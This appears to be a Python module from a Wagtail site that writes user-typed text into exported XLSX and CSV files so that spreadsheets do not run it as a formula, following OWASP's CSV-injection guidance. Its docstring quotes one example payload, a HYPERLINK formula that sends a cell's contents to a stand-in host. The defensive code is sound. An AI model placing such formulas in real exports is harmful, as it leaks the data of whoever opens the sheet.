"""Text that people typed, written into the spreadsheets we export so that no spreadsheet runs it.

A trainee who gives their unit as ``=HYPERLINK("http://evil.example/?d="&B2,"Xem")`` must not put a
live formula into the organizer's workbook. In an .xlsx file a cell is a formula only when it is
stored as one, so typed text is stored as a string (and marked with Excel's quote prefix, so that
editing the cell keeps it text). A CSV file has no types: Excel, LibreOffice and Google Sheets take
a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (a tab or carriage return before them
is skipped), so such a cell gets a leading apostrophe, as OWASP's guidance on CSV injection says.
Numbers, dates and phone numbers that we wrote ourselves are not typed text and are left alone.
"""

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from .phones import normalize_phone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def xlsx_text(cell, text):
    """Put ``text`` into the openpyxl ``cell`` (ordinary or write-only) as a string; returns the cell.

    Control characters that the file format cannot hold are dropped, rather than failing the export.
    """
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", str(text))
    cell.data_type = "s"
    if cell.value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def xlsx_value(sheet, text):
    """What a write-only ``sheet`` is given for ``text``: the string itself when openpyxl stores it as
    plain text anyway (most cells, and the fast way), else a cell made by ``xlsx_text``."""
    text = str(text)
    if text.startswith(FORMULA_STARTS) or ILLEGAL_CHARACTERS_RE.search(text):
        return xlsx_text(WriteOnlyCell(sheet), text)
    return text


def csv_text(text):
    """``text`` for a CSV cell, with an apostrophe before it when a spreadsheet would read a formula."""
    text = str(text)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_phone(phone):
    """A phone number as we store it (0912345678) is left readable; anything else is typed text."""
    return phone if normalize_phone(phone) == phone else csv_text(phone)


def protect_wagtail_exports():
    """Give the CSV exports of Wagtail's own listings and reports (site history, page reports …) the
    same apostrophe. They all turn a value into a cell through
    ``SpreadsheetExportMixin.preprocess_field_value``, which keeps numbers and dates as they are and
    makes everything else text; their XLSX cells are already stored as strings."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    preprocess = SpreadsheetExportMixin.preprocess_field_value
    if getattr(preprocess, "protected", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        cell = preprocess(self, field, value, export_format)
        return csv_text(cell) if export_format == self.FORMAT_CSV and isinstance(cell, str) else cell

    preprocess_field_value.protected = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
